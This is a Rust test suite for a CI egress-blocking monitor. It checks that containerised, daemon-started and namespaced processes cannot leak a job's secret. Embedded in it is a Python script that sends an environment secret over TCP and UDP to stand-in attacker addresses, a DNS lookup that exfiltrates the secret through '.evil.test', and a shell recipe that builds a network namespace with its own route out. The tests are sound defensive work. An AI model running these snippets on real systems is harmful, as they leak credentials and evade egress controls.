//! Attacks by other namespaces and by processes that are no children of the job, modelled without a container engine.

mod life;

use anyhow::{Result, ensure};
use life::{BLOCK, Gate, Puppet, assert_gapless, assert_nothing_left, call, network};
use portcullis_common::event::{Direction, EnforcementScope, Verdict};
use portcullis_tests::cgroup::Cgroup;
use portcullis_tests::world::network::RUNNER_V4;
use portcullis_tests::{JobOutcome, World, wait_until};
use std::net::{SocketAddr, TcpStream};
use std::process::Stdio;
use std::time::Duration;

/// Sends the secret by TCP, UDP and ICMP, IPv4 and IPv6, by address.
const SEND: &str = r#"
import os, socket
secret = os.environ["S"].encode()
for family, address in ((socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8::66")):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect((address, 4444)); s.sendall(secret)
        s.shutdown(socket.SHUT_WR); s.recv(1)
    except OSError as error:
        print("tcp", error)
    try:
        s = socket.socket(family, socket.SOCK_DGRAM)
        for _ in range(3): s.sendto(secret, (address, 4445))
    except OSError as error:
        print("udp", error)
print("sent")
"#;

/// C2: a process in the host's network that a daemon started for the job: another parent, another cgroup, another user.
/// The twin: the machine's own infrastructure goes on, and the job's calls too.
#[test]
fn a_process_that_a_daemon_starts_is_judged_like_the_job() -> Result<()> {
    let world = World::builder().build()?;
    let (unit, unit_cgroup) = world.create_unit("chrony")?;
    world.write_configuration(&format!("[infrastructure]\nunits = [\"{unit}\"]\n"))?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let engine = gate.world.cgroup().child("docker")?.child("0123456789ab")?;
    let host = |uid: Option<u32>| {
        let command = gate
            .world
            .command("python3")
            .args(["-c", SEND])
            .env("S", gate.canary.as_str())
            .cgroup(&engine);
        uid.map_or_else(|| command.clone(), |uid| command.clone().user(uid))
    };
    // As root, as somebody, and as the runner's own user; each outside of the job's group.
    for uid in [None, Some(12_150), Some(gate.world.runner(0).uid())] {
        let sent = host(uid).text()?;
        ensure!(sent.contains("sent"), "{sent}");
    }
    // In a user and mount namespace of its own, as rootless engines do.
    let rootless = gate
        .world
        .command("unshare")
        .args(["--mount", "--pid", "--fork", "python3", "-c", SEND])
        .env("S", gate.canary.as_str())
        .cgroup(&engine)
        .text()?;
    ensure!(rootless.contains("sent"), "{rootless}");
    let twin = puppet.run(&call("ok.test"))?;
    ensure!(twin.succeeded(), "{twin:?}");
    let infrastructure = gate
        .world
        .command("curl")
        .args(["-sS", "--max-time", "10", "https://other.test/"])
        .cgroup(&unit_cgroup)
        .text()?;
    ensure!(!infrastructure.is_empty());
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    for (address, port) in [
        ("203.0.113.66", 4444),
        ("2001:db8::66", 4444),
        ("203.0.113.66", 4445),
        ("2001:db8::66", 4445),
    ] {
        let named = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.address.to_string() == address
                && event.port == Some(port)
                && event.process.is_some()
        });
        assert!(named, "{address} {port}: {events:#?}");
    }
    assert_nothing_left(&gate.world)
}

/// What the job of the second runner may call.
const OTHER: &str = "
name: other-block
egress-policy: block
allowed-endpoints: ['other.test:443']
attach:
  - repository: octo/other
";

/// C2 beside other runners. `jobs` of them have one; the first is the hostile one. The twins: what ran on the machine
/// before, what the machine's own services do, what the container may call, and the other runner's job.
fn started_by_a_daemon(jobs: usize) -> Result<()> {
    let world = World::builder().runners(2).build()?;
    let (unit, unit_cgroup) = world.create_unit("chrony")?;
    world.write_configuration(&format!("[infrastructure]\nunits = [\"{unit}\"]\n"))?;
    let older = world.cgroup().child("database.service")?;
    let gate = Gate::up(world, &[("block", BLOCK), ("other", OTHER)])?;
    for runner in gate.world.runners() {
        runner.start()?;
    }
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    assert_eq!(gate.monitor.status()?.jobs[0].scope, EnforcementScope::Job);
    // Its group is younger than the hostile job's, as that of whatever is started from now on.
    let mut other = match jobs {
        1 => None,
        _ => Some(Puppet::start(&gate, 1, "octo/other")?),
    };

    // Groups of engines as they name them: of their own, below a slice, deep below one that is there.
    let groups = [
        gate.world.cgroup().child("docker")?.child("0123456789ab")?,
        gate.world.cgroup().child("docker-0123456789ab.scope")?,
        older.child("kubepods")?.child("pod1")?.child("0123456789ab")?,
    ];
    let run = |group: &Cgroup, uid: Option<u32>, program: &str, arguments: &[&str]| {
        let command = gate
            .world
            .command(program)
            .args(arguments)
            .env("S", gate.canary.as_str())
            .cgroup(group);
        uid.map_or_else(|| command.clone(), |uid| command.clone().user(uid)).output()
    };
    for group in &groups {
        for uid in [None, Some(12_150)] {
            let sent = run(group, uid, "python3", &["-c", SEND])?;
            ensure!(String::from_utf8_lossy(&sent.stdout).contains("sent"), "{sent:?}");
            let name = "import os, socket; socket.getaddrinfo(os.environ['S'] + '.evil.test', 443)";
            let asked = run(group, uid, "python3", &["-c", name])?;
            ensure!(!asked.status.success(), "{asked:?}");
        }
    }
    let rootless = ["--mount", "--pid", "--fork", "python3", "-c", SEND];
    let sent = run(&groups[0], None, "unshare", &rootless)?;
    ensure!(String::from_utf8_lossy(&sent.stdout).contains("sent"), "{sent:?}");
    // Nor does it give anything to who calls from outside.
    let giver = "import os, socket\ns = socket.create_server(('0.0.0.0', 8002)); print('ready', flush=True)\ns.settimeout(3)\nc, _ = s.accept(); c.sendall(os.environ['S'].encode())";
    let mut server = gate
        .world
        .command("python3")
        .args(["-c", giver])
        .env("S", gate.canary.as_str())
        .cgroup(&groups[1])
        .spawn(Stdio::null(), Stdio::null(), Stdio::null())?;
    let listens = || {
        let listed = gate.world.runner_network().tool("ss", &["-Htln"], None);
        listed.is_ok_and(|text| text.contains(":8002"))
    };
    wait_until("the container to listen", listens)?;
    let outside = gate.world.attacker().namespace().run(|| {
        TcpStream::connect_timeout(&SocketAddr::from((RUNNER_V4, 8002)), Duration::from_secs(1))
    })?;
    ensure!(outside.is_err(), "a container was called from outside");
    server.wait()?;

    let fetch = ["-sS", "--max-time", "10", "-o", "/dev/null"];
    let call_of = |group: &Cgroup, name: &str| -> Result<bool> {
        let url = format!("https://{name}/");
        let arguments: Vec<&str> = fetch.iter().copied().chain([url.as_str()]).collect();
        Ok(run(group, None, "curl", &arguments)?.status.success())
    };
    ensure!(call_of(&older, "api.ok.test")?, "what was there before was stopped");
    ensure!(call_of(&unit_cgroup, "api.ok.test")?, "the machine's own service was stopped");
    // Alone, the job's policy is the container's; with two jobs only what both allow passes, and here that is nothing.
    assert_eq!(call_of(&groups[0], "ok.test")?, jobs == 1, "{}", gate.monitor.log());
    ensure!(!call_of(&groups[0], "other.test")?, "a container has the other job's rights");
    let twin = puppet.run(&call("ok.test"))?;
    ensure!(twin.succeeded(), "{twin:?}");
    if let Some(other) = &mut other {
        let twin = other.run(&call("other.test"))?;
        ensure!(twin.succeeded(), "the younger job is judged by the older one: {twin:?}");
    }

    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    if let Some(other) = other {
        // It is judged by what is left.
        let sent = run(&groups[0], None, "python3", &["-c", SEND])?;
        ensure!(String::from_utf8_lossy(&sent.stdout).contains("sent"), "{sent:?}");
        ensure!(other.finish()?.outcome == JobOutcome::Success);
    }
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;
    // Whichever job's rules come first stop it, and record it.
    let mut events = Vec::new();
    for id in gate.world.job_ids()? {
        let of_job = gate.world.events(&id)?;
        assert_gapless(&of_job);
        events.extend(of_job);
    }
    let is_misjudged = network(&events)
        .any(|event| event.verdict == Verdict::Blocked && event.address.is_loopback());
    assert!(!is_misjudged, "what does not leave was stopped: {events:#?}");
    for (address, port) in [("203.0.113.66", 4444), ("2001:db8::66", 4444), ("203.0.113.66", 4445)]
    {
        let named = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.address.to_string() == address
                && event.port == Some(port)
                && event.process.as_ref().is_some_and(|process| process.uid.is_some())
        });
        assert!(named, "{address} {port}: {events:#?}");
    }
    let exe = network(&events).any(|event| {
        let process = event.process.as_ref();
        event.verdict == Verdict::Blocked
            && process
                .and_then(|process| process.exe.as_deref())
                .is_some_and(|exe| exe.contains("python3"))
    });
    assert!(exe, "no process is named: {events:#?}");
    assert_nothing_left(&gate.world)
}

#[test]
fn what_a_daemon_starts_is_judged_beside_an_idle_runner() -> Result<()> {
    started_by_a_daemon(1)
}

#[test]
fn what_a_daemon_starts_is_judged_by_every_running_job() -> Result<()> {
    started_by_a_daemon(2)
}

/// Root makes a network namespace with a way out: a pair of devices, a route, masquerading. `$1` names it, `$2` is its
/// number, `$3` is `bridge` when the pair's end lies on a bridge, as container engines do.
const NAMESPACE: &str = r#"
cat >"$PUPPET/namespace.sh" <<'END'
set -e
name=$1 number=$2 kind=$3
unshare --net sleep 1000 & pid=$!
until [ "$(readlink /proc/$pid/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do sleep 0.01; done
echo $pid >"$PUPPET/$name.pid"
ip link add $name type veth peer name eth0 netns $pid
address_on=$name
if [ "$kind" = bridge ]; then
    ip link add br-$name type bridge; ip link set $name master br-$name; ip link set br-$name up; address_on=br-$name
fi
ip link set $name up
ip addr add 10.77.$number.1/24 dev $address_on
ip addr add fd77:$number::1/64 dev $address_on nodad
inside() { nsenter --net=/proc/$pid/ns/net "$@"; }
inside ip link set lo up; inside ip link set eth0 up
inside ip addr add 10.77.$number.2/24 dev eth0; inside ip addr add fd77:$number::2/64 dev eth0 nodad
inside ip route add default via 10.77.$number.1; inside ip route add default via fd77:$number::1
echo 1 >/proc/sys/net/ipv4/ip_forward; echo 1 >/proc/sys/net/ipv6/conf/all/forwarding
nft -f - <<NFT
table inet nat_$name { chain post { type nat hook postrouting priority srcnat; oifname "eth0" masquerade; }; }
NFT
END
"#;

fn own_namespaces(runners: u32) -> Result<()> {
    let gate = Gate::up(World::builder().runners(runners).build()?, &[("block", BLOCK)])?;
    for runner in gate.world.runners() {
        runner.start()?;
    }
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    puppet.run(NAMESPACE)?;
    for (name, number, kind) in [("way", 1, "pair"), ("box", 2, "bridge")] {
        let made =
            puppet.run(&format!("sudo bash \"$PUPPET/namespace.sh\" {name} {number} {kind}"))?;
        ensure!(made.succeeded(), "{made:?}");
        let inside = format!("sudo nsenter --net=/proc/$(cat \"$PUPPET/{name}.pid\")/ns/net");
        let sent = puppet.run(&format!("cat >\"$PUPPET/send.py\" <<'END'\n{SEND}\nEND\n{inside} python3 \"$PUPPET/send.py\"; {inside} ping -c 1 -W 1 203.0.113.66"))?;
        ensure!(sent.output.contains("sent"), "{sent:?}");
        // Back into the host's network by another door: the same process, the first namespace again.
        let back = puppet.run(&format!("{inside} nsenter --net=/proc/1/ns/net true; sudo unshare --net --mount nsenter --net=/proc/$$/ns/net python3 \"$PUPPET/send.py\""))?;
        ensure!(back.output.contains("sent"), "{back:?}");
        // The twin: what the job may call, it may call from there too, and it reaches its own host.
        let twin = puppet.run(&format!(
            "{} && {inside} curl -sS --max-time 10 -o /dev/null --resolve ok.test:443:198.51.100.10 https://ok.test/ && {inside} ping -c 1 -W 2 10.77.{number}.1",
            call("ok.test")
        ))?;
        ensure!(twin.succeeded(), "{name}: {twin:?}");
    }
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    for (address, port) in
        [("203.0.113.66", Some(4444)), ("2001:db8::66", Some(4445)), ("203.0.113.66", None)]
    {
        let forwarded = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.direction == Direction::Forwarded
                && event.address.to_string() == address
                && event.port == port
        });
        assert!(forwarded, "{address} {port:?}: {events:#?}");
    }
    assert_nothing_left(&gate.world)
}

/// C3, when the runner has the host to itself.
#[test]
fn a_namespace_of_the_jobs_own_is_judged_on_a_host_with_one_runner() -> Result<()> {
    own_namespaces(1)
}

/// C3, when another runner is on the host.
#[test]
fn a_namespace_of_the_jobs_own_is_judged_beside_another_runner() -> Result<()> {
    own_namespaces(2)
}

/// Without a gate the namespace's packets arrive, so that the tests above can fail.
#[test]
fn without_a_gate_a_namespace_reaches_the_attacker() -> Result<()> {
    let world = World::builder().build()?;
    let canary = portcullis_tests::Canary::generate()?;
    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    puppet.run(NAMESPACE)?;
    let sent = puppet.run(&format!("sudo bash \"$PUPPET/namespace.sh\" way 1 pair && cat >\"$PUPPET/send.py\" <<'END'\n{SEND}\nEND\nsudo nsenter --net=/proc/$(cat \"$PUPPET/way.pid\")/ns/net python3 \"$PUPPET/send.py\""))?;
    ensure!(sent.output.contains("sent"), "{sent:?}");
    puppet.run("sudo kill $(cat \"$PUPPET/way.pid\")")?;
    puppet.finish()?;
    assert!(world.attacker().saw(&canary)?, "{sent:?}");
    Ok(())
}
